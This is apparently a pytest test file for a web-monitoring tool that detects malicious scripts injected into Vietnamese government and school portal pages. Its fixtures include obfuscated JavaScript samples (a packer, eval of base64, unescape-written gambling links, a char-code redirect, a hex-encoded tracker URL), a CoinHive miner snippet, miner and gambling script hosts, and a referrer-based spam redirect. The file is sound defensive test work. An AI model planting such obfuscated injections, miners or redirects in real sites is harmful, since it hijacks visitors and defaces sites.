"""``malicious_script``: obfuscated injected JavaScript and scripts from malicious hosts, judged on the page
alone; ordinary minified libraries and analytics snippets are not."""

from pathlib import Path

import pytest

from lachan.monitoring.analysis import KINDS, analyse, extract_features, scripts

PAGES = Path(__file__).resolve().parent / "pages"
PORTAL_URL = "https://stttt.hoabinh.gov.vn/"

PACKER = ("eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
          "{d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
          "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
          "('0.1(\"<2 3=\\'4://5.6/7.8\\'></2>\");',9,9,'document|write|script|src|https|nhacai|bet|x|js'.split('|'),0,{}))")
EVAL_ATOB = "eval(atob('ZG9jdW1lbnQud3JpdGUoJzxhIGhyZWY9Imh0dHBzOi8vbmV3ODguYmlvIj5uaGEgY2FpPC9hPicp'));"
WRITE_UNESCAPE = ("document.write(unescape('%3C%61%20%68%72%65%66%3D%22%68%74%74%70%73%3A%2F%2F%6A%75%6E%38%38"
                  "%2E%61%63%22%3E%6E%68%61%20%63%61%69%3C%2F%61%3E'));")
CHAR_CODES = "var s=String.fromCharCode(" + ",".join(str(ord(c)) for c in "document.location='https://x.top/'") + ");"
HEX = "var _0x1a2b=['" + "".join(f"\\x{ord(c):02x}" for c in "https://cdn-stats.example.top/collect.js?site=sotttt.hoabinh&ref=") \
    + "','\\x6c\\x65\\x6e\\x67\\x74\\x68'];"
MINER = "var miner = new CoinHive.Anonymous('k3yS1t3k3yS1t3k3yS1t3', {throttle: 0.3}); miner.start();"


def portal_with(head="", body=""):
    html = (PAGES / "so_portal.html").read_text(encoding="utf-8")
    return extract_features(html.replace("</head>", head + "</head>").replace("</body>", body + "</body>"),
                            PORTAL_URL)


@pytest.fixture(scope="module")
def portal():
    return extract_features((PAGES / "so_portal.html").read_bytes(), PORTAL_URL)


def malicious(findings):
    return [f for f in findings if f.kind == "malicious_script"]


def test_the_kind_is_known():
    assert "malicious_script" in KINDS


@pytest.mark.parametrize(("code", "rule", "severity"), [
    (PACKER, "packer", "high"),
    (EVAL_ATOB, "eval_decoded", "high"),
    ("setTimeout(unescape('%61%6c%65%72%74%28%31%29'), 10);", "eval_decoded", "high"),
    (WRITE_UNESCAPE, "write_decoded", "high"),
    (CHAR_CODES, "char_codes", "medium"),
    (HEX, "hex_string", "medium"),
    (MINER, "miner", "high"),
])
def test_inline_scripts(code, rule, severity, portal):
    page = portal_with(body=f"<script>{code}</script>")
    assert [s["rule"] for s in page.script_signals] == [rule]
    for baseline in (None, portal):  # judged on the page alone, and against a clean baseline
        found = malicious(analyse(page, baseline))
        assert [(f.severity, f.evidence["rules"]) for f in found] == [(severity, [rule])]
        snippet = found[0].evidence["snippet"]
        assert 0 < len(snippet) <= scripts.SNIPPET and code[:12].replace(" ", "") in snippet.replace(" ", "")


def test_a_packed_script_is_also_a_long_escape_when_it_is_both(portal):
    page = portal_with(body=f"<script>{PACKER}\n{HEX}</script>")
    found = malicious(analyse(page, None))
    assert found[0].severity == "high" and found[0].evidence["rules"] == ["hex_string", "packer"]


@pytest.mark.parametrize(("src", "rule", "severity"), [
    ("https://coinhive.com/lib/coinhive.min.js", "miner_host", "high"),
    ("https://www.crypto-loot.com/lib/miner.min.js", "miner_host", "high"),
    ("http://185.212.47.9/js/jquery.min.js", "ip_host", "medium"),
    ("https://nhacaiuytin.bet/track.js", "gambling_host", "high"),
])
def test_script_sources(src, rule, severity, portal):
    page = portal_with(head=f'<script src="{src}"></script>')
    for baseline in (None, portal):
        findings = analyse(page, baseline)
        found = malicious(findings)
        assert [(f.severity, f.evidence["rules"], f.evidence["links"]) for f in found] == [(severity, [rule], [src])]
        # not reported a second time as a new external script
        assert not [f for f in findings if f.kind == "new_external_script" and src in f.evidence["links"]]


def test_a_script_from_the_pages_own_address_is_not_malicious():
    html = '<html><head><script src="http://203.113.131.7/js/app.js"></script></head><body>x</body></html>'
    assert malicious(analyse(extract_features(html, "http://203.113.131.7/"), None)) == []


def test_what_the_baseline_had_is_not_reported_again():
    page = portal_with(head='<script src="http://185.212.47.9/js/a.js"></script>', body=f"<script>{HEX}</script>")
    assert malicious(analyse(page, None))
    assert malicious(analyse(page, page)) == []  # the operator accepted this page as the baseline


def test_minified_libraries_and_analytics_are_not_malicious(portal):
    page = extract_features((PAGES / "library_scripts.html").read_bytes(), "https://thcsleloi.hanoi.edu.vn/")
    assert page.script_signals == []
    assert analyse(page, None) == []
    assert malicious(analyse(portal, None)) == []  # the portal's gtag and jQuery


def test_a_referrer_test_redirect_is_a_redirect_finding_only(portal):
    code = 'if (/google|bing|coccoc/.test(document.referrer)) { window.location.href = "https://new88.bio/"; }'
    kinds = [f.kind for f in analyse(portal_with(body=f"<script>{code}</script>"), portal)]
    assert "redirect_injection" in kinds and "malicious_script" not in kinds


def test_features_keep_the_signals_through_json():
    page = portal_with(body=f"<script>{MINER}</script>")
    again = type(page).from_dict(page.to_dict())
    assert again.script_signals == page.script_signals
    # a baseline stored before this field existed still loads
    data = page.to_dict()
    del data["script_signals"]
    assert type(page).from_dict(data).script_signals == []
